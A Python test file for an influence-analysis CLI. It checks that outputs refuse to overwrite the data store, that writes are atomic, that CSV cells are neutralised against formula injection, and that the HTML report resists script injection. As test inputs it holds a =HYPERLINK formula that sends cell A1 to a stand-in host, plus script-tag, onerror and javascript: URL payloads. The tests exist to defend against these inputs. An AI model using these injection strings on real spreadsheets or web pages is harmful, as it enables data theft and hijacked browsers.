"""Output safety (issue 14, items 1, 15 and 16).

1. ``-o`` never writes over the store, its ``-wal``/``-shm``/``-journal`` files or the sector file
   (by path, symbolic link or hard link): exit 2, one line, the store unchanged. Every file output
   is written atomically: a writer that fails midway leaves the earlier file and no temporary file.
15. CSV meant for spreadsheets neutralises text cells that a spreadsheet would run as a formula.
16. The HTML report links only http/https URLs, and its CSP lets only its own script run.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import hashlib
import html as html_lib
import io
import json
import os
import re
import sqlite3

import pytest
from click.testing import CliRunner
from influence_cli import cli

from influence.records import Actor, Interaction, Post
from influence.store import Store


@pytest.fixture
def runner():
    return CliRunner()


def _digest(path) -> str:
    with open(path, "rb") as fh:
        return hashlib.sha256(fh.read()).hexdigest()


@pytest.fixture
def sector(tmp_path, runner):
    """A sector file ``s.toml`` with its store ``s.db`` (the issue's two-row import), plus a
    competitor so that `competitors` runs."""
    (tmp_path / "e.csv").write_text("source,target,kind\na,b,reply\nc,b,reply\n", encoding="utf-8")
    (tmp_path / "s.toml").write_text('name = "s"\nstore = "s.db"\n', encoding="utf-8")
    (tmp_path / "grid.toml").write_text('[grid]\n"pagerank.alpha" = [0.85, 0.9]\n', encoding="utf-8")
    r = runner.invoke(cli, ["import", str(tmp_path / "s.toml"), str(tmp_path / "e.csv"), "-q"])
    assert r.exit_code == 0, r.output
    assert (tmp_path / "s.db").stat().st_size > 0
    return tmp_path


COMMANDS = {
    "shortlist": ["shortlist", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "rank": ["rank", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "export": ["export", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "report": ["report", "{sector}", "-q", "-o", "{out}"],
    "communities": ["communities", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "competitors": ["competitors", "{sector}", "-f", "json", "-q", "-o", "{out}"],
    "overlap": ["overlap", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "evaluate": ["evaluate", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "sweep": ["sweep", "{sector}", "--grid", "{grid}", "-f", "csv", "-q", "-o", "{out}"],
    "tune": ["tune", "{sector}", "-f", "csv", "-q", "-o", "{out}"],
    "tune --save-config": ["tune", "{sector}", "-q", "--save-config", "{out}"],
}


def _args(template, sector, out):
    grid = os.path.join(os.path.dirname(sector), "grid.toml")
    return [a.format(sector=sector, out=out, grid=grid) for a in template]


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("target", ["store", "wal", "sector file", "symlink", "hard link", "manifest"])
def test_output_onto_the_store_or_sector_file_is_refused(runner, sector, command, target):
    store, toml = sector / "s.db", sector / "s.toml"
    if target == "symlink":
        os.symlink(store, sector / "link.csv")
    elif target == "hard link":
        os.link(store, sector / "link.csv")
    out = {"store": store, "wal": str(store) + "-wal", "sector file": toml,
           "symlink": sector / "link.csv", "hard link": sector / "link.csv",
           # -o s.db.manifest... no: an output whose manifest would be the store
           "manifest": sector / "s.db"}[target]
    if target == "manifest":
        os.rename(store, sector / "x.csv.manifest.json")
        (sector / "s.toml").write_text('name = "s"\nstore = "x.csv.manifest.json"\n', encoding="utf-8")
        store, out = sector / "x.csv.manifest.json", sector / "x.csv"
    before, toml_before = _digest(store), toml.read_text()
    r = runner.invoke(cli, _args(COMMANDS[command], toml, out))
    assert r.exit_code == 2, (r.output, r.exception)
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and "refusing to write over" in lines[0], r.stderr
    assert "Traceback" not in r.output
    assert _digest(store) == before and toml.read_text() == toml_before
    assert not os.path.exists(str(store) + "-wal") or os.path.getsize(str(store) + "-wal") == 0
    con = sqlite3.connect(store)
    try:
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    finally:
        con.close()
    if target == "manifest":
        assert not os.path.exists(out)


def test_issue_reproduction_store_given_directly(runner, sector):
    # exactly the issue's commands: the store as SECTOR and as -o
    store = sector / "s.db"
    before = _digest(store)
    r = runner.invoke(cli, ["shortlist", str(store), "-f", "csv", "-o", str(store), "-q"])
    assert r.exit_code == 2
    assert r.stderr.strip() == f"Error: {store}: refusing to write over the sector's store ({store}); " \
                               f"choose another output file"
    assert _digest(store) == before
    r = runner.invoke(cli, ["rank", str(store), "-q"])
    assert r.exit_code == 0 and json.loads(r.stdout)[0]["actor"] == "import:b"


def test_input_files_and_other_sqlite_databases_are_refused(runner, sector, tmp_path):
    store = sector / "s.db"
    # a --config file is an input, not an output
    (tmp_path / "c.toml").write_text("[ranking]\nnormalization = 'rank'\n", encoding="utf-8")
    r = runner.invoke(cli, ["rank", str(store), "--config", str(tmp_path / "c.toml"), "-q",
                            "-o", str(tmp_path / "c.toml")])
    assert r.exit_code == 2 and "refusing to write over the --config file" in r.stderr
    # any other SQLite database (another sector's store) is not overwritten either
    other = tmp_path / "other.db"
    con = sqlite3.connect(other)
    con.execute("create table t (x)")
    con.commit()
    con.close()
    before = _digest(other)
    r = runner.invoke(cli, ["rank", str(store), "-q", "-o", str(other)])
    assert r.exit_code == 2 and "SQLite database" in r.stderr
    assert _digest(other) == before
    # sentiment train: neither its input nor a store
    (tmp_path / "lab.csv").write_text("text,label\ngood,positive\nbad,negative\n", encoding="utf-8")
    lab = _digest(tmp_path / "lab.csv")
    for out in (tmp_path / "lab.csv", store):
        r = runner.invoke(cli, ["sentiment", "train", str(tmp_path / "lab.csv"), "--folds", "0", "-q",
                                "-o", str(out)])
        assert r.exit_code == 2 and "refusing to write over" in r.stderr, r.output
    assert _digest(tmp_path / "lab.csv") == lab


def test_ordinary_outputs_still_work(runner, sector):
    out = sector / "out.csv"
    r = runner.invoke(cli, ["rank", str(sector / "s.toml"), "-f", "csv", "-q", "-o", str(out)])
    assert r.exit_code == 0, r.output
    assert out.read_text().startswith("rank,actor,")
    assert json.loads((sector / "out.csv.manifest.json").read_text())["command"] == "rank"
    # a new file gets the umask's usual mode, not mkstemp's 0600
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
    # writing through a symbolic link replaces its target and keeps the link
    os.symlink(out, sector / "via-link.csv")
    r = runner.invoke(cli, ["shortlist", str(sector / "s.toml"), "-f", "csv", "-q",
                            "-o", str(sector / "via-link.csv")])
    assert r.exit_code == 0, r.output
    assert os.path.islink(sector / "via-link.csv")
    assert out.read_text().startswith("rank,actor,")


# -- atomic writes ---------------------------------------------------------------------------------


def _leftovers(folder) -> list[str]:
    return sorted(n for n in os.listdir(folder) if n.endswith(".tmp"))


def _full_disk(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("command", ["rank", "export", "report"])
def test_a_failed_write_leaves_the_earlier_file(runner, sector, monkeypatch, command):
    out = sector / ("out.html" if command == "report" else "out.csv")
    args = _args(COMMANDS[command], sector / "s.toml", out)
    r = runner.invoke(cli, args)
    assert r.exit_code == 0, r.output
    good, good_manifest = out.read_bytes(), (sector / "out.csv.manifest.json").exists()
    assert len(good) > 50
    # the disk fills up when the new file is flushed: the earlier file must survive
    monkeypatch.setattr(os, "fsync", _full_disk)
    r = runner.invoke(cli, args)
    assert r.exit_code == 2, r.output
    assert "No space left on device" in r.stderr and "Traceback" not in r.output
    assert out.read_bytes() == good
    assert _leftovers(sector) == []
    assert (sector / "out.csv.manifest.json").exists() == good_manifest


def test_a_writer_failing_midway_leaves_the_earlier_export(runner, sector, monkeypatch):
    import influence.export

    out = sector / "g.csv"
    r = runner.invoke(cli, ["export", str(sector / "s.toml"), "-o", str(out), "-q"])
    assert r.exit_code == 0
    good = out.read_text()
    assert good.splitlines()[0].startswith("source,target,weight")

    def half(G, fh):
        fh.write("source,target,wei")
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(influence.export, "write_edge_csv", half)
    r = runner.invoke(cli, ["export", str(sector / "s.toml"), "-o", str(out), "-q"])
    assert r.exit_code == 2 and "Input/output error" in r.stderr
    assert out.read_text() == good  # before: a 0-byte or half-written file
    assert _leftovers(sector) == []


def test_atomic_write_library_paths(tmp_path, monkeypatch):
    """Manifests, graph exports and sentiment models go through the one atomic writer."""
    import influence.atomic
    import networkx as nx

    from influence.export import export_graph
    from influence.manifest import write_manifest

    G = nx.DiGraph([("a", "b", {"weight": 1.0, "count": 1.0, "n_reply": 1.0})])
    for fmt in ("graphml", "gexf", "json", "csv"):
        export_graph(G, tmp_path / f"g.{fmt}", fmt)
    write_manifest(tmp_path / "g.csv", {"command": "x"})
    before = {p: p.read_bytes() for p in tmp_path.iterdir()}

    real = influence.atomic.atomic_write
    calls = []

    @contextlib.contextmanager
    def failing(path, mode="w", **kw):
        # the writer writes everything, then the disk fills up before the rename
        calls.append(os.path.basename(path))
        with real(path, mode, **kw) as fh:
            yield fh
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(influence.atomic, "atomic_write", failing)
    import influence.export as export_mod

    monkeypatch.setattr(export_mod, "atomic_write", failing)
    for fmt in ("graphml", "gexf", "json", "csv"):
        with pytest.raises(OSError):
            export_graph(G, tmp_path / f"g.{fmt}", fmt)
    with pytest.raises(OSError):
        write_manifest(tmp_path / "g.csv", {"command": "y"})
    assert {p: p.read_bytes() for p in tmp_path.iterdir()} == before
    assert calls == ["g.graphml", "g.gexf", "g.json", "g.csv", "g.csv.manifest.json"]


def test_sentiment_model_save_is_atomic(tmp_path, monkeypatch):
    from influence.sentiment import train_classifier

    texts = ["good great", "great good nice", "bad awful", "awful bad terrible", "ok fine", "fine ok"]
    model = train_classifier(texts, ["positive", "positive", "negative", "negative", "neutral", "neutral"])
    path = tmp_path / "m.npz"
    model.save(path)
    good = path.read_bytes()

    def full_disk(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    # the new model's bytes are written, then flushing them to disk fails
    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(OSError):
        model.save(path)
    monkeypatch.undo()
    assert path.read_bytes() == good
    assert _leftovers(tmp_path) == []


# -- CSV formula neutralising ------------------------------------------------------------------------

EVIL = {"import:eq": '=HYPERLINK("http://x.example/?d="&A1,"click")', "import:at": "@SUM(1+1)",
        "import:plus": "+1+1", "import:minus": "-2+3", "import:tab": "\tcmd", "import:cr": "\rcmd"}


@pytest.fixture
def evil_store(tmp_path):
    path = tmp_path / "evil.db"
    s = Store(path)
    recs = [Actor(i, name=n) for i, n in EVIL.items()]
    recs += [Interaction(f"import:fan{j}", i, "reply", "2026-01-05T10:00:00Z")
             for j in range(3) for i in EVIL]
    recs += [Interaction("import:=cell", "import:eq", "mention", "2026-01-06T10:00:00Z")]
    s.write(recs)
    s.close()
    return path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("command", [["rank"], ["shortlist"], ["communities"], ["overlap"]])
def test_csv_cells_that_start_a_formula_are_neutralised(runner, evil_store, command):
    r = runner.invoke(cli, [*command, str(evil_store), "-f", "csv", "-q", "--top", "0"]
                      if command[0] != "communities" else [*command, str(evil_store), "-f", "csv", "-q"])
    assert r.exit_code == 0, r.output
    rows = _csv_rows(r.stdout)
    assert rows
    cells = [v for row in rows for v in row.values() if v and not _is_number(v)]
    # no text cell a spreadsheet would run
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    if command[0] in ("rank", "shortlist"):
        names = {row["actor"]: row["name"] for row in rows}
        assert names["import:eq"] == "'" + EVIL["import:eq"]
        assert names["import:minus"] == "'-2+3" and names["import:plus"] == "'+1+1"
        # (the store itself turns a leading tab or CR into a space: see test_numbers_... for them)
    text = r.stdout
    assert "'=HYPERLINK" in text or command[0] in ("communities", "overlap")
    # JSON stays raw
    r = runner.invoke(cli, [*command, str(evil_store), "-f", "json", "-q"])
    assert r.exit_code == 0
    assert "=HYPERLINK" in r.stdout and "'=HYPERLINK" not in r.stdout \
        or command[0] in ("communities", "overlap")


def test_numbers_are_not_neutralised():
    from influence_cli._common import render

    rows = [{"name": "-x", "score": -0.5, "n": -3, "text": "-0.5", "ok": "a-b", "tab": "\tx", "cr": "\r=1"}]
    out = render(rows, ["name", "score", "n", "text", "ok", "tab", "cr"], "csv")
    assert out.splitlines()[1] == "'-x,-0.5,-3,'-0.5,a-b,'\tx,'"
    assert out.endswith(",'\tx,'\r=1\n")
    assert json.loads(render(rows, ["name"], "json"))[0]["name"] == "-x"
    # the table on a terminal is not a spreadsheet
    assert "'-x" not in render(rows, ["name", "score"], "table")


def test_competitors_csv_is_neutralised(runner, tmp_path):
    store = tmp_path / "c.db"
    s = Store(store)
    recs = [Actor("import:brand", name="=evil()")]
    recs += [Post(f"import:p{i}", "import:brand", f"2026-01-{i + 1:02d}T10:00:00Z",
                  f"coffee roast beans espresso number {i}") for i in range(12)]
    recs += [Interaction(f"import:f{i}", "import:brand", "mention", f"2026-01-{i + 1:02d}T11:00:00Z")
             for i in range(6)]
    s.write(recs)
    s.close()
    (tmp_path / "c.toml").write_text(
        'name = "c"\nstore = "c.db"\n[[competitors]]\nname = "=Brand"\nhandles = ["import:brand"]\n',
        encoding="utf-8")
    r = runner.invoke(cli, ["competitors", str(tmp_path / "c.toml"), "--section", "engagement",
                            "-f", "csv", "-q"])
    assert r.exit_code == 0, r.output
    assert "'=Brand" in r.stdout
    assert not re.search(r"(^|,)=", r.stdout, re.MULTILINE)


# -- links and scripts in the HTML report ------------------------------------------------------------


def _evil_report():
    from influence.report import build_report, render_html
    from influence.sector import Sector

    s = Store(":memory:")
    s.write([
        Actor("import:evil", name="<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\">",
              url="javascript:window.__pwned=3"),
        Actor("import:tabbed", name="Tabbed", url="java\tscript:window.__pwned=4"),
        Actor("import:good", name="Good", url="https://good.example/u"),
        Post("import:p1", "import:evil", "2026-01-05T10:00:00Z", "hello", url="javascript:alert(2)"),
        *[Interaction(f"import:f{i}", a, "reply", "2026-01-05T11:00:00Z")
          for i in range(3) for a in ("import:evil", "import:tabbed", "import:good")],
    ])
    data = build_report(Sector(name="evil", store=s))
    return data, render_html(data)


def test_report_links_only_http_urls():
    from influence.report import CSP

    _, html = _evil_report()
    hrefs = re.findall(r'<a href="([^"]*)"', html)
    assert "https://good.example/u" in hrefs
    assert not [h for h in hrefs if not h.startswith(("#", "http://", "https://"))], hrefs
    assert "javascript:" not in html.replace("javascript:window.__pwned", "")  # only as text
    assert '<span class="name">&lt;script&gt;' in html
    # the policy names the page's own script by hash and allows no other inline script
    meta = html_lib.unescape(
        re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html).group(1))
    assert meta == CSP
    script_src = re.search(r"script-src ([^;]*);", meta).group(1)
    assert "unsafe-inline" not in script_src and script_src.startswith("'sha256-")
    scripts = re.findall(r"<script>(.*?)</script>", html, re.DOTALL)
    assert len(scripts) == 1
    import base64

    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    assert script_src == f"'sha256-{digest}'"


def test_injected_script_cannot_run_in_chromium(tmp_path):
    """Even if escaping failed, a script or event handler smuggled into the page would not run;
    the report's own script still does (the sorting works)."""
    from .test_report_browser import Browser, _chromium, _playwright

    executable = _chromium()
    sync_playwright = _playwright()
    _, html = _evil_report()
    forged = html.replace("<main", '<script>window.__pwned = 5;</script>'
                                   '<img src="x" onerror="window.__pwned = 6">'
                                   '<a id="js" href="javascript:window.__pwned = 7">x</a><main', 1)
    path = tmp_path / "report.html"
    path.write_text(forged, encoding="utf-8")
    with sync_playwright() as pw:
        b = Browser(pw, executable, tmp_path)
        try:
            page = b.page
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            page.locator("#js").click()
            page.wait_for_timeout(200)
            assert page.evaluate("typeof window.__pwned") == "undefined"
            # the browser said why: Content-Security-Policy refusals
            assert any("Content Security Policy" in e for e in b.errors), b.errors
            assert b.requests == []
            # the report's own script ran: a click on a header sorts the table
            th = page.locator("#shortlist-table thead th[data-sort]").first
            th.click()
            assert th.get_attribute("aria-sort") in ("ascending", "descending")
            # and the javascript: URL of the store is text, not a link
            assert page.locator('a[href^="javascript"]').count() == 1  # only the forged one
        finally:
            b.close()
